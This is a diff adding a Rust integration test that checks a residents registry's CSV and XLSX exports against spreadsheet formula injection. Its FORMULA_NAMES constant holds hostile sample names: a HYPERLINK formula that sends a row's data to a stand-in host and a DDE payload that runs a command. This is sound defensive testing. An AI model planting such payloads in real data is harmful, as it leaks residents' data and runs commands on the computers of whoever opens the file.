@@ -7,10 +7,11 @@ use std::sync::Arc;
 
 use axum::body::Body;
 use axum::http::{Request, StatusCode, header};
+use gongzhi_core::data::csv_rows;
 use gongzhi_core::people::cipher::SoftwareCipher;
 use gongzhi_core::people::{Role, Scope};
 use gongzhi_demo::import_rows::resident_rows;
-use gongzhi_office::{Format, read_rows, write_rows};
+use gongzhi_office::{Format, formula_like, read_rows, write_rows};
 
 use crate::common;
 use crate::common::{Reply, demo_apps, page, post_as, send, sign_in, submit, token};
@@ -28,6 +29,11 @@ pub(crate) fn cipher() -> Arc<SoftwareCipher> {
 pub(crate) async fn import_residents(app: &axum::Router, db: &gongzhi_store::Db, n: usize) -> Vec<Vec<String>> {
     let grids: Vec<String> = GRIDS.iter().map(|g| g.to_string()).collect();
     let rows = resident_rows(n, &grids, 7);
+    import_rows(app, db, rows).await
+}
+
+/// Imports `rows` (header first) into the registry as 学府社区's community worker; the rows.
+async fn import_rows(app: &axum::Router, db: &gongzhi_store::Db, rows: Vec<Vec<String>>) -> Vec<Vec<String>> {
     let community = token(app, db, "community").await;
     let request = Request::post("/api/v1/registry/import/residents?file=r.xlsx")
         .header(header::AUTHORIZATION, format!("Bearer {community}"))
@@ -423,5 +429,72 @@ async fn the_compounds_geojson_carries_the_owners_committee_and_imports_again() 
         let back = send(&fresh_app, request).await;
         assert_eq!(back.status, StatusCode::CREATED, "{name}: {}", back.body);
         assert_eq!(fresh.db.org_counts("").await.unwrap().owners_committees, 1, "{name}");
+    }
+}
+
+/// Names an attacker would give a resident so that the exporter's spreadsheet runs them (OWASP,
+/// "CSV Injection"): a link that sends the row away, a DDE command, arithmetic (each within the
+/// 30 characters a name may have).
+const FORMULA_NAMES: [&str; 3] = [
+    "=HYPERLINK(\"//e.cn/\"&F2,\"点\")",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1-1",
+];
+
+#[tokio::test]
+async fn residents_named_like_formulas_are_exported_as_text_and_import_again_unchanged() {
+    for (db, state) in demo_apps().await {
+        let name = db.backend_name();
+        let app = gongzhi_web::router(state.with_cipher(cipher()));
+        let grids: Vec<String> = GRIDS.iter().map(|g| g.to_string()).collect();
+        let mut rows = resident_rows(4, &grids, 7);
+        let column = rows[0]
+            .iter()
+            .position(|h| h.starts_with("姓名"))
+            .expect("a name column");
+        for (row, evil) in rows[1..].iter_mut().zip(FORMULA_NAMES) {
+            row[column] = evil.to_string();
+        }
+        import_rows(&app, &db.db, rows).await;
+
+        // The masked CSV (a community worker) and the unmasked one (the exporter, with a reason):
+        // no cell a spreadsheet would run; each name once, behind a quote.
+        let community = sign_in(&app, &db.db, "community").await;
+        let masked = page(&app, &community, "/registry/export/residents.csv").await;
+        let exporter = sign_in(&app, &db.db, "exporter").await;
+        let full = submit(
+            &app,
+            &exporter,
+            "/registry/export/residents-unmasked",
+            &[("reason", "入户走访核对"), ("format", "csv")],
+        )
+        .await;
+        for (what, r) in [("masked", &masked), ("unmasked", &full)] {
+            assert_eq!(r.status, StatusCode::OK, "{name} {what}: {}", r.body);
+            let cells = csv_rows("r.csv", &r.body).unwrap();
+            for cell in cells.iter().flatten() {
+                assert!(!formula_like(cell), "{name} {what}: {cell:?} would run as a formula");
+            }
+            for evil in FORMULA_NAMES {
+                let quoted = format!("'{evil}");
+                assert_eq!(
+                    cells.iter().flatten().filter(|c| **c == quoted).count(),
+                    1,
+                    "{name} {what}: {evil}"
+                );
+            }
+            // Read as the import reads it, the names are what was imported.
+            let back = read_rows("r.csv", &r.bytes).unwrap();
+            for evil in FORMULA_NAMES {
+                assert!(back.iter().flatten().any(|c| c == evil), "{name} {what}: {evil}");
+            }
+        }
+        // The workbook: the names as they are, as text cells.
+        let xlsx = page(&app, &community, "/registry/export/residents.xlsx").await;
+        assert_eq!(xlsx.status, StatusCode::OK, "{name}");
+        let back = read_rows("r.xlsx", &xlsx.bytes).unwrap();
+        for evil in FORMULA_NAMES {
+            assert!(back.iter().flatten().any(|c| c == evil), "{name}: {evil}");
+        }
     }
 }
